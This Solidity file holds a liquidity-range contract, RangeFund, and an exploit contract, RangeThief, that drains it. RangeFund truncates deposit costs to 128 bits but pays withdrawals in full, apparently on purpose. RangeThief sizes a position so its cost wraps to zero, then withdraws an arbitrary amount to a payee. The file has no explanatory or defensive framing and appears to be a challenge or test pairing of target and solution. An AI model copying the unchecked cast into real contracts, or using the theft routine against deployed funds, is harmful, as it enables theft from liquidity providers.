// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Pool} from "../props/Markets.sol";
import {Shop} from "../props/Shop.sol";
import {Token} from "../props/Tokens.sol";

/// Positions of liquidity in one range. What a position costs is cut to 128 bits, what it pays is not.
contract RangeFund {
    Token public immutable token;
    uint256 public immutable width; // of the range, as a number with 64 binary places
    mapping(address => uint256) public liquidityOf;
    uint256 public totalLiquidity;

    event LiquidityAdded(address indexed owner, uint256 liquidity, uint256 amount);
    event LiquidityRemoved(address indexed owner, uint256 liquidity, uint256 amount);

    constructor(Token token_, uint256 width_) {
        (token, width) = (token_, width_);
    }

    function addLiquidity(uint256 liquidity) external {
        uint128 amount = uint128((liquidity * width) >> 64) + 1;
        token.transferFrom(msg.sender, address(this), amount);
        liquidityOf[msg.sender] += liquidity;
        totalLiquidity += liquidity;
        emit LiquidityAdded(msg.sender, liquidity, amount);
    }

    function removeLiquidity(uint256 liquidity) external {
        liquidityOf[msg.sender] -= liquidity;
        totalLiquidity -= liquidity;
        uint256 amount = (liquidity * width) >> 64;
        token.transfer(msg.sender, amount);
        emit LiquidityRemoved(msg.sender, liquidity, amount);
    }

    /// What positions may claim beyond what is here.
    function missing() external view returns (uint256) {
        uint256 owed = (totalLiquidity * width) >> 64;
        uint256 held = token.balanceOf(address(this));
        return owed > held ? owed - held : 0;
    }
}

contract RangeThief {
    function run(RangeFund fund, Pool pool, uint256 amount, address payee) external payable {
        Token token = fund.token();
        Shop.buy(pool, msg.value);
        token.approve(address(fund), type(uint256).max);
        if (fund.liquidityOf(address(this)) == 0) {
            // The cost comes to two to the power of 128, of which nothing is left.
            uint256 liquidity = ((uint256(1) << 192) + fund.width() - 1) / fund.width();
            fund.addLiquidity(liquidity);
        }
        fund.removeLiquidity((amount << 64) / fund.width());
        token.transfer(payee, token.balanceOf(address(this)));
    }
}
